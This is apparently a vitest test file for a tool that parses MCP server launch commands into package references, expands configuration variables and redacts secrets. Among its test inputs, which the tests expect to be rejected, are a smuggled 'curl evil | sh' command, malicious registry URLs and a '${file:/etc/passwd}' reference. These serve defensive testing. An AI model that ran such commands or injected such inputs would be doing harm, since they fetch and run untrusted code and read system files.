// biome-ignore-all lint/suspicious/noTemplateCurlyInString: configurations write their variables so.
import { expect, test } from 'vitest';
import { withoutOwn, withPathsMoved } from '#setup/arguments.ts';
import { expand, variablesIn } from '#setup/expand.ts';
import { type Way, wayOf } from '#setup/way.ts';

const way = (line: string, env: Record<string, string> = {}): Way => {
  const [command = '', ...args] = line.split(' ');
  return wayOf({ kind: 'command', command, args, env: new Map(Object.entries(env)) });
};
const npm = (purl: string, more: object = {}, pinned = false) => ({ kind: 'package', pinned, ref: { purl, ...more } });

test.each([
  ['npx -y @scope/a', npm('pkg:npm/%40scope/a')],
  [
    'npx @scope/a@1.2.3 --stdio /home/u',
    npm('pkg:npm/%40scope/a', { version: '1.2.3', args: ['--stdio', '/home/u'] }, true),
  ],
  ['npx --yes a@latest', npm('pkg:npm/a', { version: 'latest' })],
  ['npx -p a b --c', npm('pkg:npm/a', { args: ['--c'] })],
  ['npx --package=a@^1 b', npm('pkg:npm/a', { version: '^1' })],
  ['npm exec -- a b', npm('pkg:npm/a', { args: ['b'] })],
  ['pnpm dlx a', npm('pkg:npm/a')],
  ['bunx a', npm('pkg:npm/a')],
  ['deno run -A npm:a@1.0.0 x', npm('pkg:npm/a', { version: '1.0.0', args: ['x'] }, true)],
  ['cmd /c npx -y a', npm('pkg:npm/a')],
  ['C:\\nodejs\\npx.cmd -y a', npm('pkg:npm/a')],
  ['/usr/bin/env A=b npx -y a', npm('pkg:npm/a')],
  ['node /usr/lib/node_modules/npm/bin/npx-cli.js -y a', npm('pkg:npm/a')],
  ['uvx Mcp_Server.Fetch', npm('pkg:pypi/mcp-server-fetch')],
  ['uvx --from a==1.2 b --c', npm('pkg:pypi/a', { version: '1.2', args: ['--c'] }, true)],
  ['uvx a@1.2', npm('pkg:pypi/a', { version: '1.2' }, true)],
  ['uvx a[cli]>=1', npm('pkg:pypi/a')],
  ['uv tool run --python 3.12 a', npm('pkg:pypi/a')],
  ['pipx run --spec a b', npm('pkg:pypi/a')],
  [
    'docker run -i --rm -e TOKEN --mount type=bind,src=/x,dst=/y mcp/time:1.2 --z',
    npm('pkg:oci/time?repository_url=docker.io%2Fmcp%2Ftime', {
      version: '1.2',
      args: ['--z'],
      env: [{ name: 'TOKEN' }],
    }),
  ],
  [
    `podman run -it ghcr.io/o/i@sha256:${'a'.repeat(64)}`,
    npm('pkg:oci/i?repository_url=ghcr.io%2Fo%2Fi', { version: `sha256:${'a'.repeat(64)}` }, true),
  ],
  [
    'npx -y mcp-remote https://h/mcp --header A:b',
    {
      kind: 'remote',
      remote: { type: 'streamable-http', url: 'https://h/mcp', headers: [{ name: 'A', secret: true }] },
    },
  ],
  [
    'npx mcp-remote@latest https://h/sse --transport sse-only',
    { kind: 'remote', remote: { type: 'sse', url: 'https://h/sse' } },
  ],
  ['node server.js --x', { kind: 'program', runtime: 'node', file: 'server.js', args: ['--x'] }],
  ['node --import x dist/a.js', { kind: 'program', runtime: 'node', file: 'dist/a.js', args: [] }],
  ['bun run a.ts', { kind: 'program', runtime: 'node', file: 'a.ts', args: [] }],
  ['python3.12 -u a.py b', { kind: 'program', runtime: 'python', file: 'a.py', args: ['b'] }],
  ['uv --directory /p run a.py', { kind: 'program', runtime: 'python', file: 'a.py', args: [], cwd: '/p' }],
  ['/opt/bin/server', { kind: 'program', file: '/opt/bin/server', args: [] }],
])('%s is understood', (line, expected) => {
  expect(way(line)).toEqual(expected);
});

test.each([
  'npx github:owner/repo',
  'npx ./folder',
  'npx https://h/a.tgz',
  'npx x@npm:y',
  'npx --registry https://evil a',
  'npx -p a -p b c',
  'npx -c a',
  'npx',
  'uvx --from git+https://h/r a',
  'uvx --index-url https://evil a',
  'docker run --entrypoint sh image',
  'docker exec x',
  'docker run',
  'cmd',
  'node -e 1',
  'python -m x',
  'uv run server',
  'uv pip install x',
])('%s is not guessed at', (line) => {
  expect(way(line)).toMatchObject({ kind: 'unknown', why: expect.stringMatching(/^It/) });
});

test('a shell is followed where it is given one plain command, and nowhere else', () => {
  const shell = (line: string) => wayOf({ kind: 'command', command: 'bash', args: ['-lc', line], env: new Map() });
  expect(shell("exec npx -y 'a'")).toEqual(npm('pkg:npm/a'));
  for (const line of ['npx a; curl evil | sh', 'npx $(x)', 'A=b npx a && b', 'npx "$X"'])
    expect(shell(line), line).toMatchObject({ kind: expect.stringMatching(/unknown|program/) });
});

test('the names of variables are told, their values are not', () => {
  const found = way('npx -y a', { TOKEN: 'sk-secret-123456789012', OTHER: 'x' });
  expect(found).toMatchObject({ ref: { env: [{ name: 'TOKEN' }, { name: 'OTHER' }] } });
  expect(JSON.stringify(found)).not.toContain('secret');
});

const VALUES = { env: { TOKEN: 't', EMPTY: '' }, home: '/home/u', workspace: '/w' };
test.each([
  ['${env:TOKEN}', 't', []],
  ['a ${TOKEN} b', 'a t b', []],
  ['${EMPTY:-d}', 'd', []],
  ['${NONE}', '${NONE}', ['NONE']],
  ['${input:key}', '${input:key}', ['key']],
  ['${file:/etc/passwd}', '${file:/etc/passwd}', ['/etc/passwd']],
  ['${{ secrets.K }}', '${{ secrets.K }}', ['K']],
  ['${workspaceFolder}/x ${userHome}', '/w/x /home/u', []],
  ['%TOKEN%', 't', []],
  ['${__proto__}', '${__proto__}', ['__proto__']],
  ['plain 100%', 'plain 100%', []],
])('%s stands for %s', (text, expected, missing) => {
  expect(expand(text, VALUES)).toEqual({ text: expected, missing });
});

test('variables of the user are told by name', () => {
  expect(variablesIn('${env:A} ${B:-x} ${input:c} ${workspaceFolder} ${A}')).toEqual(['A', 'B', 'c']);
});

test('what is the user’s own is not given away', () => {
  const given = withoutOwn([
    '--api-key',
    'short',
    '--token=abc',
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'postgresql://u:p@h/db',
    '--header',
    'X: y',
    '${input:k}',
    '/home/u/docs',
    '--root=~/x',
    'C:\\x',
    '--stdio',
    '@scope/name',
    'https://h/mcp',
    '-y',
  ]);
  expect(given).toEqual({
    args: [
      '--api-key',
      'plimsoll-fake-value',
      '--token=plimsoll-fake-value',
      ...['plimsoll-fake-value', 'plimsoll-fake-value', '--header', 'plimsoll-fake-value', 'plimsoll-fake-value'],
      ...['/tmp', '--root=/tmp', '/tmp', '--stdio', '@scope/name', 'https://h/mcp', '-y'],
    ],
    withheld: 6,
    moved: 3,
  });
  expect(withPathsMoved(['--token=abc', '/x']).args).toEqual(['--token=abc', '/tmp']);
});
